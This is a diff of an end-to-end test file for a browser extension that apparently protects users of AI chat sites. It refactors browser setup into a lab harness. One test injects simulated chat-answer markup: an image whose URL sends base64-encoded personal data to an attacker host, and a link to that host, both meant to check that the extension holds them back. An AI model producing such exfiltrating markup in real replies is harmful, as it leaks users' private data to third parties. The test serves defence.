@@ -9,12 +9,12 @@ import { eventOfAttempt, eventOfFinding, type HistoryEvent } from '../../lib/mod
 import type { TabReport } from '../../lib/model/report';
 import { defaultSettings, type Settings } from '../../lib/model/settings';
 import { undrawn } from '../../lib/rules/concealment-paint';
-import { launchChromium, type ChromiumBrowser, type ChromiumTab } from '../../scripts/drive/chromium';
+import type { ChromiumBrowser, ChromiumTab } from '../../scripts/drive/chromium';
 import { gotoScanned, waitUntil } from '../../scripts/drive/guarded-browser';
-import { startServer, type LoopbackServer } from '../../scripts/drive/serve';
 import { root } from '../../scripts/root';
 import { axeViolationsIn } from '../harness/axe';
 import { layoutFaults } from '../harness/layout-faults';
+import { openScreenLab, type ScreenLab } from '../harness/screen-lab';
 import { speakingExtension, type SpeakingExtension } from '../harness/speaking-extension';
 import { attemptRecord, chatRecord } from '../unit/browser/attempt-record';
 import { findingRecord, frameRecord } from '../unit/browser/finding-record';
@@ -136,32 +136,29 @@ const panelStates = new Set(['clean', 'many', 'not-looked-at', 'chat', 'paused']
 
 describe.each(Object.keys(looks))('screens in %s', (language) => {
   let extension: SpeakingExtension;
-  let server: LoopbackServer;
+  let lab: ScreenLab;
   let browser: ChromiumBrowser;
   let tab: ChromiumTab;
   let screen: ChromiumTab;
 
   beforeAll(async () => {
     extension = await speakingExtension(language);
-    server = await startServer(async ({ host, path }) => ({
-      type: path.endsWith('.png') ? 'image/svg+xml' : 'text/html; charset=utf-8',
-      body: host.startsWith('chat.') ? chatPage : path === '/shop' ? shop : quiet,
-    }));
-    browser = await launchChromium({ extension: extension.folder, onlyThrough: server });
-    tab = await browser.openTab();
+    lab = await openScreenLab(
+      ({ host, path }) => ({
+        type: path.endsWith('.png') ? 'image/svg+xml' : 'text/html; charset=utf-8',
+        body: host.startsWith('chat.') ? chatPage : path === '/shop' ? shop : quiet,
+      }),
+      extension.folder,
+    );
+    ({ browser, tab } = lab);
     screen = await browser.openTab();
   });
   afterAll(async () => {
-    await browser.close();
-    await server.close();
+    await lab.close();
     await extension.remove();
   });
 
-  const change = (settings: Partial<Settings>) =>
-    browser.inExtension(
-      (payload) => chrome.runtime.sendMessage({ name: 'change-settings', payload }),
-      settings,
-    );
+  const change = (settings: Partial<Settings>) => lab.change(settings);
 
   /** Brings the tab into a state. A fresh page first, so that no late word of an earlier one overwrites it. */
   async function bring({ settings = {}, frame, chat, session = {}, isClosedPage }: State): Promise<void> {
@@ -305,47 +302,25 @@ describe.each(Object.keys(looks))('screens in %s', (language) => {
         ),
       (isOpen) => isOpen === true,
     );
-    const bar = await frameOf('/bar');
+    const bar = await lab.frameOf('/bar');
     await bar.waitForSelector('.bar');
     await look('overlay', 'legend_title', 1000, bar);
   });
 
   it('held picture, and the page before a link is followed', async () => {
     await change(defaultSettings);
-    await tab.goto('http://chat.mistral.ai/c/1');
-    await waitUntil(
-      () =>
-        browser.inExtension(
-          async (key) => (await chrome.storage.session.get(key))[key],
-          `conversation:${tab.id}`,
-        ),
-      (text) => JSON.stringify(text ?? '').includes('Jordan'),
-    );
-    await tab.evaluate(
-      (markup) => {
-        const answer = document.getElementById('answer');
-        if (answer) answer.innerHTML = markup;
-      },
+    await lab.visitChat('Jordan');
+    await lab.say(
       `<p>Look:</p><img alt="" width="320" height="160" src="${attacker}/p.png?d=${btoa('Jordan Example 482913')}">
        <p><a id="go" href="${attacker}/bill?for=Jordan+Example+482913">bank.example</a></p>`,
     );
-    const held = await frameOf('/held.html');
+    const held = await lab.frameOf('/held.html');
     await held.waitForSelector('.held-card button:not([disabled])');
     await look('held', 'held_showOnce', 1000, held);
     await tab.click('#go');
     await tab.page.waitForSelector('.leaving-buttons');
     await look('leaving', 'leaving_title', 1000, tab.page);
   });
-
-  async function frameOf(part: string): Promise<Frame> {
-    const index = await waitUntil(
-      async () => tab.page.frames().findIndex((frame) => frame.url().includes(part)),
-      (found) => found >= 0,
-    );
-    const frame = tab.page.frames()[index];
-    if (!frame) throw new Error(`There is no frame ${part}.`);
-    return frame;
-  }
 
   /** Makes these all the events that there are, as the background would have written them. */
   function putEvents(events: readonly HistoryEvent[]): Promise<void> {
